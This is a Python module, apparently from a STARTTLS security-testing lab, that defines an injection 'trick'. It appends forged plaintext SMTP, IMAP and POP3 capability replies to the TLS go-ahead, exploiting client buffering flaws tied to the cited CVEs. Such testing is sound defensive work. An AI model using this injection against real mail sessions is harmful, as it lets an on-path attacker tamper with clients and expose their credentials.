"""Plaintext behind the go-ahead: a whole answer."""

from __future__ import annotations

from unstrip.lab.speech import Reply
from unstrip.lab.trick import Actions, ToClient, Trick

ANSWERS = {  # to the question that a client will ask first inside TLS
    "smtp": b"250-localhost\r\n250 AUTH PLAIN LOGIN\r\n",
    "imap": b"* CAPABILITY IMAP4rev1 AUTH=PLAIN AUTH=LOGIN\r\n",
    "pop3": b"+OK Capability list follows\r\nUSER\r\nSASL PLAIN LOGIN\r\n.\r\n",
}


class Inject(Trick):
    """B-06. A plausible answer is appended to the go-ahead, in the same segment.

    It works on clients whose reader keeps what was read too early: they take it for the answer to
    their first command inside TLS (CVE-2020-14954, CVE-2021-22947, CVE-2021-38371 and others).
    """

    ID = "B-06"
    NAME = "inject"
    WHAT = "a plausible answer is appended to the go-ahead, in the same segment"

    def server_says(self, reply: Reply) -> Actions:
        """Append to the go-ahead."""
        yield ToClient(reply.data + self.words(ANSWERS) if reply.go_ahead else reply.data)
